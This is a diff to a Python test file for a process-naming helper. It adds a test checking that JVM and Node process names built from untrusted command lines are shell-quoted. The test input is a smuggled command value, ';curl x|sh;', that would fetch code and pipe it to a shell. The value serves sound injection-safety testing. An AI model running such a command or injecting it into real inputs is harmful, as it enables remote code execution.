@@ -12,6 +12,7 @@ from analysis.runtime_frames import (
     is_own_code,
     jvm_name,
     naming_advice,
+    node_script,
     runtime_of,
     unnamed_share,
 )
@@ -130,6 +131,13 @@ def test_jcmd_finds_a_jvm_by_what_is_known_of_it():
     assert jvm_name("java org.acme.Server", 812, is_alive=True) == "812"
     assert jvm_name("java org.acme.Server", 812, is_alive=False) == "org.acme.Server"
     assert jvm_name("java -jar", 812, is_alive=False) == "$(pgrep -n java)"
+
+
+def test_what_a_stranger_calls_itself_is_one_word_of_a_command():
+    hostile = ";curl x|sh;"
+    assert jvm_name(f"java {hostile}", 812, is_alive=False) == f"'{hostile}'"
+    assert node_script(f"node {hostile}.js") == f"'{hostile}.js'"
+    assert node_script("node server.cjs") == "server.cjs"
 
 
 def test_frames_of_the_jvm_itself_are_nobody_s_work():
